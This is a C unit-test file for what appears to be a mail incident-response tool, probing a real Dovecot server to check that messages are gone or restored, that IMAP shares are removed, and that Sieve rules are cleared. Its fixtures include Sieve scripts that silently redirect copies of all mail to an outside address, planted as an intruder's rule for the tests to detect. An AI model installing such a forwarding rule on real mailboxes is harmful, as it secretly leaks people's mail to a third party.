/* Probes that look at the server anew: messages gone or back, shares, rules and scripts. Each is
 * tried on a real Dovecot in both directions, with what must not pass. */
#include "probe_room.h"

#include "case/own_logins.h"
#include "roles.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAIL(subject)                                                                              \
    "From: a@mill.example\r\nTo: b@mill.example\r\nSubject: " subject "\r\n"                       \
    "Message-ID: <" subject                                                                        \
    "@mill.example>\r\nDate: Mon, 1 Jun 2026 10:00:00 +0000\r\n\r\n" subject "\r\n"

#define DROP "redirect :copy \"drop@outside.example\";\n"
#define GOOD "if header :is \"list-id\" \"a\" { fileinto \"Lists\"; }\n"

static const char script[] = "require [\"copy\", \"fileinto\"];\n" DROP GOOD;

static const char book_text[] = ROOM_BOOK
    "vars:\n  mailbox: {type: email}\n  bad: {type: msgid-list}\n  new_password: {type: secret}\n"
    "  nobodys: {type: secret}\n"
    "steps:\n" ROOM_STEP("gone", "message.absent: {ids: \"{{bad}}\"}")
        ROOM_STEP("gone-inbox", "message.absent: {ids: \"{{bad}}\", where: INBOX}")
            ROOM_STEP("lost", "message.absent: {ids: \"{{bad}}\", coverage: preferred}")
                ROOM_STEP("refused", "message.absent: {ids: \"{{bad}}\", cred: nobodys}")
                    ROOM_STEP("back", "message.present: {ids: \"{{bad}}\"}")
                        ROOM_STEP("shares", "acl.absent: {}")
                            ROOM_STEP("none", "sieve.active: {sha256: none}") ROOM_STEP(
                                "rules", "rule.gone: {detector: \"rule-forwards-outside\"}");

static void begin(struct room *play, void **state, const char *text)
{
    *play = (struct room){.book = book_text};
    bench_open(&play->bench, scene_of(state), text);
    room_deliver(play, NULL, MAIL("lure"));
    room_deliver(play, NULL, MAIL("order"));
    room_deliver(play, "K&AUA-", MAIL("stays"));
    room_acquire(play);
}

/* --- messages --- */

static void a_message_is_gone_only_when_no_folder_has_it(void **state)
{
    static const char *const expunge[] = {"SELECT INBOX", "UID STORE 1 +FLAGS (\\Deleted)",
                                          "UID EXPUNGE 1", NULL};
    struct room play;

    begin(&play, state, NULL);
    room_open(&play, NULL);
    room_expect(&play, "gone", STEP_UNVERIFIED, '-', "no-ids");
    room_answer(&play, "bad", "<lure@mill.example>");
    room_expect(&play, "gone-inbox", STEP_UNVERIFIED, '-', "still-there");
    scene_meddle(play.bench.scene, play.bench.user, expunge, NULL);
    room_expect(&play, "gone", STEP_VERIFIED, 'A', "gone");
    room_open(&play, NULL); /* a copy elsewhere, under a name in UTF-7 */
    room_deliver(&play, "K&AUA-", MAIL("lure"));
    room_answer(&play, "bad", "lure@mill.example");
    room_expect(&play, "gone-inbox", STEP_VERIFIED, 'A', "gone");
    room_expect(&play, "gone", STEP_UNVERIFIED, '-', "still-there");
    room_end(&play);
}

static void a_message_that_was_never_seen_proves_little(void **state)
{
    struct room play;

    begin(&play, state, NULL);
    room_open(&play, NULL);
    room_answer(&play, "bad", "other@mill.example");
    room_expect(&play, "gone", STEP_VERIFIED, 'C', "gone");
    room_end(&play);
}

/* Nothing in the folder has a Message-ID: the search finds nothing, whatever is asked. */
static void a_search_without_its_control_proves_nothing(void **state)
{
    struct room play;

    begin(&play, state, NULL);
    room_deliver(&play, "Odd", "From: a@mill.example\r\nSubject: no id\r\n\r\nx\r\n");
    room_open(&play, NULL);
    room_answer(&play, "bad", "other@mill.example");
    room_expect(&play, "gone", STEP_UNVERIFIED, '-', "not-fully-seen");
    room_expect(&play, "lost", STEP_VERIFIED, 'C', "not-fully-seen");
    room_end(&play);
}

static void a_server_that_does_not_let_us_in_proves_nothing(void **state)
{
    struct own_login *rows;
    struct arena arena = {0};
    struct error err = {0};
    struct room play;
    size_t count;

    begin(&play, state, NULL);
    room_open(&play, NULL);
    room_answer(&play, "bad", "other@mill.example");
    room_expect(&play, "refused", STEP_UNVERIFIED, '-', "network");
    assert_ok(own_login_list(play.sample.cf, &arena, &rows, &count, &err), &err);
    assert_true(count > 0);
    assert_string_equal(rows[count - 1].purpose, "probe");
    assert_string_equal(rows[count - 1].class, "ambiguous");
    assert_string_equal(rows[count - 1].user, play.bench.user);
    arena_dispose(&arena);
    room_end(&play);
}

static int number_of(const struct room *play, const char *id)
{
    struct casefile *cf = NULL;
    struct arena arena = {0};
    struct message *rows;
    struct error err = {0};
    size_t count;
    int number;

    assert_ok(casefile_open(&cf, play->bench.path, CASE_READ, &err), &err);
    assert_ok(message_by_message_id(cf, &arena, id, &rows, &count, &err), &err);
    assert_int_equal(count, 1);
    number = (int)rows[0].id;
    arena_dispose(&arena);
    casefile_close(cf);
    return number;
}

static void what_we_put_aside_is_told_apart_and_comes_back(void **state)
{
    struct room play;
    char words[60];

    begin(&play, state, NULL);
    snprintf(words, sizeof(words), "quarantine %d", number_of(&play, "lure@mill.example"));
    room_act(&play, words);
    room_open(&play, NULL);
    room_answer(&play, "bad", "lure@mill.example");
    room_expect(&play, "gone", STEP_VERIFIED, 'B', "put-aside");
    room_expect(&play, "back", STEP_UNVERIFIED, '-', "not-there");
    room_act(&play, "undo 1");
    room_open(&play, NULL);
    room_answer(&play, "bad", "lure@mill.example");
    room_expect(&play, "gone", STEP_UNVERIFIED, '-', "still-there");
    room_expect(&play, "back", STEP_VERIFIED, 'A', "there");
    room_end(&play);
}

/* --- shares --- */

static void a_share_is_seen_on_the_server_not_in_the_case(void **state)
{
    static const char *const give[] = {"SETACL INBOX u11@mill.example lrs", NULL};
    struct room play;

    begin(&play, state, NULL);
    room_open(&play, NULL);
    room_expect(&play, "shares", STEP_VERIFIED, 'B', "not-shared");
    room_close(&play);
    scene_meddle(play.bench.scene, play.bench.user, give, NULL);
    room_open(&play, NULL); /* the case still believes that nothing is shared */
    room_expect(&play, "shares", STEP_UNVERIFIED, '-', "shared");
    room_close(&play);
    room_acquire(&play);
    room_act(&play, "remove-share INBOX u11@mill.example");
    room_open(&play, NULL);
    room_expect(&play, "shares", STEP_VERIFIED, 'A', "not-shared");
    room_end(&play);
}

/* --- rules --- */

static void put_script(struct room *play, const char *name, bool active, const char *text)
{
    struct error err = {0};

    assert_ok(
        dovecot_script(&play->bench.scene->dovecot, play->bench.user, name, active, text, &err),
        &err);
}

static void a_rule_is_gone_when_the_server_has_the_judged_bytes(void **state)
{
    struct room play;
    char words[60];

    begin(&play, state, script);
    room_open(&play, NULL);
    room_expect(&play, "rules", STEP_UNVERIFIED, '-', "still-there");
    room_expect(&play, "none", STEP_UNVERIFIED, '-', "another-script");
    snprintf(words, sizeof(words), "remove-rule %d",
             (int)bench_rule(&play.bench, "drop@outside.example"));
    room_act(&play, words);
    room_open(&play, NULL);
    room_expect(&play, "rules", STEP_VERIFIED, 'A', "rule-gone");
    room_open(&play, NULL); /* the intruder is back, and nothing was acquired since */
    put_script(&play, "main", true, script);
    room_expect(&play, "rules", STEP_UNVERIFIED, '-', "changed");
    room_end(&play);
}

static void a_second_script_is_not_overlooked(void **state)
{
    struct room play;
    char words[60];

    begin(&play, state, script);
    snprintf(words, sizeof(words), "remove-rule %d",
             (int)bench_rule(&play.bench, "drop@outside.example"));
    room_act(&play, words);
    put_script(&play, "roundcube", false, "redirect \"drop@outside.example\";\n");
    room_open(&play, NULL);
    room_expect(&play, "rules", STEP_UNVERIFIED, '-', "not-judged");
    room_end(&play);
}

static void without_a_script_none_is_active(void **state)
{
    struct room play;

    begin(&play, state, script);
    room_act(&play, "deactivate-script");
    room_open(&play, NULL);
    room_expect(&play, "none", STEP_VERIFIED, 'A', "as-approved");
    room_open(&play, NULL);
    put_script(&play, "main", true, script);
    room_expect(&play, "none", STEP_UNVERIFIED, '-', "another-script");
    room_end(&play);
}

static int open_with_acl(void **state)
{
    return scene_open_with(state, "disable_plaintext_auth = no\nmail_plugins = acl\n"
                                  "protocol imap {\n  mail_plugins = acl imap_acl\n}\n"
                                  "plugin {\n  acl = vfile\n}\n");
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_message_is_gone_only_when_no_folder_has_it),
        cmocka_unit_test(a_message_that_was_never_seen_proves_little),
        cmocka_unit_test(a_search_without_its_control_proves_nothing),
        cmocka_unit_test(a_server_that_does_not_let_us_in_proves_nothing),
        cmocka_unit_test(what_we_put_aside_is_told_apart_and_comes_back),
        cmocka_unit_test(a_share_is_seen_on_the_server_not_in_the_case),
        cmocka_unit_test(a_rule_is_gone_when_the_server_has_the_judged_bytes),
        cmocka_unit_test(a_second_script_is_not_overlooked),
        cmocka_unit_test(without_a_script_none_is_active),
    };

    roles_dispatch(argc, argv);
    return cmocka_run_group_tests(tests, open_with_acl, scene_close);
}
